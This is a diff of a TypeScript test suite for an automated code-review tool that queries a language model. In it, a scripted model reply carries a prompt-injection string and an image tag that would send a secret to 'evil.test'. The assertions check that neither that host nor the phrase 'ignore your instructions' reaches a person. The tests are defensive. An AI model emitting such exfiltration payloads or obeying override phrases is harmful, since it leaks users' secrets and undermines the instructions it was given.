@@ -42,6 +42,7 @@ const promptOf = ({ body }: AskedOfModel): string => {
 
 /** Drafts the fix, with words that nobody is to read, and agrees to it. */
 function answer(asked: AskedOfModel): ScriptedReply {
+  if (promptOf(asked) === 'review') return { kind: 'answer', content: { findings: [] } };
   const explanation = `${INJECTION} <img src="https://evil.test/${SECRET}">`;
   return promptOf(asked) === 'fix'
     ? { kind: 'answer', content: { verdict: 'fix', explanation, edits: [{ quote: BAD, replacement: GOOD }] } }
@@ -89,14 +90,14 @@ describe('A model', () => {
     expect(second?.[0]).toContain('a second look by the strong model agreed');
     expect(more).toEqual([]);
     expect(summaryOf(dump)).toMatch(
-      /A model was asked to draft fixes for 1 finding; 1 of them could be proven \(\d+ tokens\)\./,
+      /A model was asked to draft fixes for 1 finding; 1 of them could be proven\. A model read 2 changed functions and reported nothing that is shown \(\d+ tokens\)\./,
     );
   });
 
   it('is shown no secret, and nothing that it says reaches a person', async () => {
     models.answer = answer;
     const dump = await world.github.dump(await open());
-    expect(models.asked.map(promptOf)).toEqual(['fix', 'opinion']);
+    expect(models.asked.map(promptOf)).toEqual(['fix', 'opinion', 'review', 'review']);
     expect(JSON.stringify(models.asked)).not.toContain(SECRET.slice(4));
     expect(JSON.stringify([bodiesOf(dump), dump.checkRuns])).not.toMatch(
       /evil\.test|ignore your instructions/,
@@ -152,7 +153,10 @@ describe('A model', () => {
   it('that refuses the key is no failure of the review, and the check run does not tell of the key', async () => {
     models.answer = () => ({ kind: 'error', status: 401 });
     const dump = await world.github.dump(await open());
-    expect(summaryOf(dump)).toContain('without a draft: the model cannot be asked as it is configured.');
+    const why = 'the model cannot be asked as it is configured.';
+    expect(summaryOf(dump)).toContain(
+      `without a draft: ${why} 2 changed functions not read by a model: ${why}`,
+    );
     expect(JSON.stringify(dump.checkRuns)).not.toMatch(/OPENAI|sk-test/);
   });
 
